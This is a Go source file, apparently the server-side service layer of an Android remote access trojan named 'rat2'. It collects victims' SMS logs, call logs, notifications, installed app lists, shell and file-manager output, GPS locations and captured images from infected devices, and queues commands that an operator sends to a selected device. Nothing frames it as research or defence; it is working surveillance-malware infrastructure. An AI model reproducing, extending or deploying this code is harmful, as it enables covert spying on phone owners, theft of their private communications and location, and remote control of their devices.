package service

import (
	"context"
	"errors"
	"fmt"

	"github.com/MRSt3Ss/rat2/internal/command"
	"github.com/MRSt3Ss/rat2/internal/content"
	"github.com/MRSt3Ss/rat2/internal/events"
	"github.com/MRSt3Ss/rat2/internal/hub"
	"github.com/MRSt3Ss/rat2/internal/models"
	"github.com/MRSt3Ss/rat2/internal/registry"

	"github.com/sirupsen/logrus"
)

// History query caps, matching what the dashboards render.
const (
	smsLogLimit       = 50
	callLogLimit      = 50
	notificationLimit = 50
	shellResultLimit  = 10
	fileManagerLimit  = 20
	locationLimit     = 20
)

// Service defines the core relay hub operations the HTTP and live
// session layers call into. All shared state lives behind this facade.
type Service interface {
	// Ingestion from agents
	IngestEvent(ctx context.Context, req models.IngestRequest) error

	// Device registry projections and selection
	ListDevices(ctx context.Context) []models.Device
	SelectDevice(ctx context.Context, id string) (models.Device, error)
	SelectedDevice(ctx context.Context) (models.Device, error)

	// Command submission
	SubmitCommand(ctx context.Context, name string, params map[string]string) (string, error)

	// History queries, newest first, capped
	SMSLogs(ctx context.Context) []map[string]any
	CallLogs(ctx context.Context) []map[string]any
	Notifications(ctx context.Context) []map[string]any
	InstalledApps(ctx context.Context) []any
	ShellResults(ctx context.Context) []map[string]any
	FileManagerResults(ctx context.Context) []map[string]any
	Locations(ctx context.Context) []map[string]any

	// Live sessions
	Subscribe() *hub.Session
	Unsubscribe(session *hub.Session)
	NotifySession(session *hub.Session, event string, data any)

	// Content store lookups
	ImagePath(filename string) (string, error)

	// Monitoring and lifecycle
	QueueStats() map[string]interface{}
	Shutdown() error
}

// service is the Service implementation.
type service struct {
	registry   *registry.Registry
	store      *events.Store
	hub        *hub.Hub
	dispatcher *command.Dispatcher
	content    *content.Store
	log        *logrus.Logger
}

// ServiceConfig holds the dependencies for the service.
type ServiceConfig struct {
	Registry   *registry.Registry
	EventStore *events.Store
	Hub        *hub.Hub
	Dispatcher *command.Dispatcher
	Content    *content.Store
	Logger     *logrus.Logger
}

// NewService creates a new service instance.
func NewService(cfg ServiceConfig) (Service, error) {
	if cfg.Registry == nil {
		return nil, errors.New("registry is required")
	}
	if cfg.EventStore == nil {
		return nil, errors.New("event store is required")
	}
	if cfg.Hub == nil {
		return nil, errors.New("hub is required")
	}
	if cfg.Dispatcher == nil {
		return nil, errors.New("dispatcher is required")
	}
	if cfg.Content == nil {
		return nil, errors.New("content store is required")
	}
	if cfg.Logger == nil {
		cfg.Logger = logrus.New()
	}

	return &service{
		registry:   cfg.Registry,
		store:      cfg.EventStore,
		hub:        cfg.Hub,
		dispatcher: cfg.Dispatcher,
		content:    cfg.Content,
		log:        cfg.Logger,
	}, nil
}

// IngestEvent processes one event reported by an agent: registers or
// refreshes the device, appends to its history log, materializes image
// payloads, and fans live notifications out to operator sessions. A
// failure here is contained to this event; it never affects the registry
// state of other devices.
func (s *service) IngestEvent(_ context.Context, req models.IngestRequest) error {
	if req.Type == "" {
		return fmt.Errorf("%w: missing event type", models.ErrMalformedInput)
	}

	deviceID := req.DeviceID
	if deviceID == "" {
		deviceID = req.ClientInfo.Address
	}
	if deviceID == "" {
		return fmt.Errorf("%w: missing device identity", models.ErrMalformedInput)
	}

	update := models.DeviceUpdate{}
	if req.ClientInfo.Address != "" {
		update.IP = &req.ClientInfo.Address
	}
	if req.Type == models.EventDeviceInfo {
		if model, ok := stringField(req.Payload, "Model"); ok {
			update.Model = &model
		}
		if manufacturer, ok := stringField(req.Payload, "Manufacturer"); ok {
			update.Manufacturer = &manufacturer
		}
		if version, ok := stringField(req.Payload, "AndroidVersion"); ok {
			update.AndroidVersion = &version
		}
		if battery, ok := intField(req.Payload, "Battery"); ok {
			update.Battery = &battery
		}
	}

	// Every event registers its device; identity events additionally
	// announce the device to all operator sessions.
	device, _ := s.registry.Upsert(deviceID, update)
	if req.Type == models.EventDeviceInfo {
		s.hub.Broadcast("device_connected", device)
	}

	event := s.store.Append(deviceID, req.Type, req.Payload)

	if req.Type == models.EventImageData {
		s.announceImage(deviceID, req.Payload, event)
	}

	selectedID, ok := s.registry.Selected()
	s.hub.Publish(event, ok && selectedID == deviceID)

	return nil
}

// announceImage writes the image payload to the content store and
// broadcasts a reference URL. A decode or write failure suppresses only
// the notification; the event itself is already stored.
func (s *service) announceImage(deviceID string, payload map[string]any, event models.Event) {
	filename, _ := stringField(payload, "filename")
	imageBase64, _ := stringField(payload, "image_base64")

	url, err := s.content.Save(deviceID, filename, imageBase64)
	if err != nil {
		s.log.WithError(err).WithField("device_id", deviceID).Error("Failed to store image payload")
		return
	}

	s.hub.Broadcast("new_image", map[string]any{
		"filename":  filename,
		"url":       url,
		"timestamp": event.Timestamp,
	})
}

func (s *service) ListDevices(_ context.Context) []models.Device {
	return s.registry.List()
}

func (s *service) SelectDevice(_ context.Context, id string) (models.Device, error) {
	device, err := s.registry.Select(id)
	if err != nil {
		return models.Device{}, err
	}

	s.log.WithField("device_id", id).Info("Device selected")
	s.hub.Broadcast("device_selected", device)

	return device, nil
}

func (s *service) SelectedDevice(_ context.Context) (models.Device, error) {
	id, ok := s.registry.Selected()
	if !ok {
		return models.Device{}, models.ErrNoDeviceSelected
	}

	device, found := s.registry.Get(id)
	if !found {
		return models.Device{}, models.ErrDeviceNotFound
	}
	return device, nil
}

// SubmitCommand formats and enqueues a command against the currently
// selected device, returning the formatted wire string.
func (s *service) SubmitCommand(_ context.Context, name string, params map[string]string) (string, error) {
	deviceID, ok := s.registry.Selected()
	if !ok {
		return "", models.ErrNoDeviceSelected
	}

	commandString := command.Format(name, params)
	s.dispatcher.Enqueue(deviceID, commandString)

	s.log.WithFields(logrus.Fields{
		"device_id": deviceID,
		"command":   commandString,
	}).Info("Command enqueued")

	return commandString, nil
}

func (s *service) SMSLogs(_ context.Context) []map[string]any {
	return s.selectedPayloads(models.EventSMSLog, smsLogLimit)
}

func (s *service) CallLogs(_ context.Context) []map[string]any {
	return s.selectedPayloads(models.EventCallLog, callLogLimit)
}

func (s *service) Notifications(_ context.Context) []map[string]any {
	return s.selectedPayloads(models.EventNotificationData, notificationLimit)
}

// InstalledApps returns the app list from the most recent APP_LIST event
// of the selected device.
func (s *service) InstalledApps(_ context.Context) []any {
	id, ok := s.registry.Selected()
	if !ok {
		return []any{}
	}

	latest := s.store.QueryLast(id, models.EventAppList, 1)
	if len(latest) == 0 {
		return []any{}
	}
	if apps, ok := latest[0].Payload["apps"].([]any); ok {
		return apps
	}
	return []any{}
}

// ShellResults returns the combined shell and file-manager results for
// the selected device.
func (s *service) ShellResults(_ context.Context) []map[string]any {
	id, ok := s.registry.Selected()
	if !ok {
		return []map[string]any{}
	}

	kinds := []models.EventKind{models.EventShellLsResult, models.EventFileManagerResult}
	return payloadsOf(s.store.QueryLastAny(id, kinds, shellResultLimit))
}

func (s *service) FileManagerResults(_ context.Context) []map[string]any {
	return s.selectedPayloads(models.EventFileManagerResult, fileManagerLimit)
}

func (s *service) Locations(_ context.Context) []map[string]any {
	return s.selectedPayloads(models.EventLocationSuccess, locationLimit)
}

func (s *service) Subscribe() *hub.Session {
	return s.hub.Subscribe()
}

func (s *service) Unsubscribe(session *hub.Session) {
	s.hub.Unsubscribe(session)
}

func (s *service) NotifySession(session *hub.Session, event string, data any) {
	s.hub.Send(session, event, data)
}

func (s *service) ImagePath(filename string) (string, error) {
	return s.content.Path(filename)
}

func (s *service) QueueStats() map[string]interface{} {
	stats := s.dispatcher.Stats()
	stats["sessions"] = s.hub.Count()
	return stats
}

// Shutdown stops the command dispatcher.
func (s *service) Shutdown() error {
	s.log.Info("Shutting down service...")
	s.dispatcher.Stop()
	return nil
}

// selectedPayloads queries the selected device's history for one kind,
// returning just the payloads. No selection yields an empty result.
func (s *service) selectedPayloads(kind models.EventKind, limit int) []map[string]any {
	id, ok := s.registry.Selected()
	if !ok {
		return []map[string]any{}
	}
	return payloadsOf(s.store.QueryLast(id, kind, limit))
}

func payloadsOf(evts []models.Event) []map[string]any {
	payloads := make([]map[string]any, 0, len(evts))
	for _, e := range evts {
		payloads = append(payloads, e.Payload)
	}
	return payloads
}

// stringField reads a string payload field.
func stringField(payload map[string]any, key string) (string, bool) {
	v, ok := payload[key]
	if !ok {
		return "", false
	}
	s, ok := v.(string)
	return s, ok
}

// intField reads a numeric payload field, tolerating the float64 that
// JSON decoding produces.
func intField(payload map[string]any, key string) (int, bool) {
	switch v := payload[key].(type) {
	case int:
		return v, true
	case float64:
		return int(v), true
	default:
		return 0, false
	}
}
